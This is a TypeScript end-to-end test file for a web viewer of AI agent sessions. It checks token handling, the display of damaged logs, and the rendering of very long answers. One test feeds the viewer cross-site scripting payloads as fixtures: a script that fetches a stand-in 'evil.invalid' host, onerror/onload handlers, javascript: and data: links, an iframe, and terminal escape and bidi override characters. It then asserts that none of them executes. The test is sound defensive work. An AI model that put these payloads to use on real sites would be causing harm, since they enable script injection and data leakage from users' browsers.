/** What is not meant to be: another's token, a damaged log, text that wants to be more than text. */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { type Stage, skipWithoutSandbox } from '../e2e/support/stage.ts';
import { answerIn, messageOf, openFork, see } from './support/acts.ts';
import { inspectPage } from './support/look.ts';
import { openSite } from './support/site.ts';

test('a token that the daemon does not know is asked for again, and kept out of the address', async (ctx) => {
  const site = await openSite(ctx);
  site.expectTrouble(/status of 401/);
  const page = await site.open('/', { token: 'not-the-token-at-all' });
  await see(page.getByLabel('Token'));
  await inspectPage(page, 'token');
  await page.getByLabel('Token').fill(site.token);
  await page.getByRole('button', { name: 'Open' }).click();
  await see(page.getByText('No sessions yet'));
  expect(page.url()).not.toContain('#');
  await page.reload();
  await see(page.getByText('No sessions yet'));
});

test('of a damaged session what is whole is shown, the damage is told, and a fork before it works', async (ctx) => {
  await skipWithoutSandbox(ctx);
  const site = await openSite(ctx, { damaged: true });
  const { session } = await site.stage.play(null, [{ text: 'This is whole.' }]);
  await site.stage.play(session, [{ text: 'This is not.' }]);
  damage(site.stage, session);
  const page = await site.open(`/s/${session}`);
  await see(answerIn(page, 1).getByText('This is whole.'));
  await see(page.getByRole('alert').getByText(/damaged/));
  await inspectPage(page, 'damaged');
  const dialog = await openFork(page, messageOf(page, 1).getByRole('button', { name: 'Fork after turn 1' }));
  await dialog.getByRole('button', { name: 'Fork', exact: true }).click();
  await page.waitForURL((url) => !url.pathname.endsWith(session));
  await see(answerIn(page, 1).getByText('This is whole.'));
});

/** Changes one byte of the second turn's answer. */
function damage(stage: Stage, session: string): void {
  const folder = join(stage.folderOf(session), 'log');
  for (const name of readdirSync(folder).filter((entry) => entry.endsWith('.jsonl'))) {
    const path = join(folder, name);
    writeFileSync(path, readFileSync(path, 'utf8').replace('This is not.', 'This is now.'));
  }
}

const SCRIPT = '<script>globalThis.pwned = 1; fetch("http://evil.invalid/")</script>';
const IMAGE = '<img src=x onerror="globalThis.pwned = 2"><svg onload="globalThis.pwned = 3">';
const MARKDOWN = [
  '[a link](javascript:globalThis.pwned=4)',
  '[data](data:text/html,<script>globalThis.pwned=5</script>)',
  '![picture](http://evil.invalid/track.png)',
  '![inline](data:image/svg+xml,<svg/onload=globalThis.pwned=6>)',
  '<iframe src="http://evil.invalid/"></iframe><style>body { display: none }</style>',
  '[home](/s/../inbox) <http://evil.invalid/auto>',
].join('\n\n');
const CONTROLS = 'red \u001b[31m, title \u001b]0;owned\u0007, override \u202eGPJ.exe, isolate \u2066x, c1 \u009b2J';
const HOSTILE = [SCRIPT, IMAGE, MARKDOWN, CONTROLS].join('\n\n');

test('what a model, a tool and a title say is text: nothing of it runs, and nothing leaves', async (ctx) => {
  await skipWithoutSandbox(ctx);
  const site = await openSite(ctx);
  const { stage } = site;
  const { session } = await stage.play(null, [
    {
      text: HOSTILE,
      toolCalls: [{ name: 'write_file', input: { path: `${IMAGE.replaceAll('/', '')}.md`, content: HOSTILE } }],
    },
    { text: HOSTILE, toolCalls: [{ name: 'shell', input: { command: `cat <<'END'\n${HOSTILE}\nEND\nfalse` } }] },
    { text: HOSTILE },
  ]);
  await stage.ask(['title', session, `${SCRIPT}${CONTROLS}`]);
  const page = await site.open();
  await see(page.getByRole('treeitem').getByText(/<script>/));
  expect(await readBody(page)).not.toMatch(UNSAFE);
  await page.getByRole('treeitem').getByRole('link').click();
  await see(answerIn(page, 1).getByText(/<img src=x/));
  for (const call of await page.getByRole('button', { name: /^(shell|write_file)/ }).all()) await call.click();
  await see(page.getByText(/c1 \\x9b2J/));
  expect(await page.evaluate('globalThis.pwned')).toBeUndefined();
  expect(await readBody(page)).not.toMatch(UNSAFE);
  for (const name of ['a link', 'data', 'home']) expect(await page.getByRole('link', { name }).count(), name).toBe(0);
  expect(await page.getByRole('img').count()).toBe(0);
  await inspectPage(page, 'hostile');
  await page.getByRole('tab', { name: 'Files' }).click();
  await see(page.getByText(/img src=x/));
  expect(await readBody(page)).not.toMatch(UNSAFE);
  expect(await page.evaluate('globalThis.pwned')).toBeUndefined();
});

/** What terminals obey and readers are deceived by. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

async function readBody(page: { evaluate(code: string): Promise<unknown> }): Promise<string> {
  return String(await page.evaluate('document.title + document.body.innerText'));
}

test('an answer of one line of five million characters opens, and is shown whole when asked for', async (ctx) => {
  await skipWithoutSandbox(ctx);
  const site = await openSite(ctx);
  const { session } = await site.stage.play(null, [{ text: `begin ${'x'.repeat(5_000_000)}` }]);
  const page = await site.open(`/s/${session}`);
  await see(answerIn(page, 1).getByText(/^begin x+/));
  await page.getByRole('button', { name: /^Show all \(5,000,006 characters\)/ }).click();
  await see(page.getByText(/^begin x+/));
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1280);
});
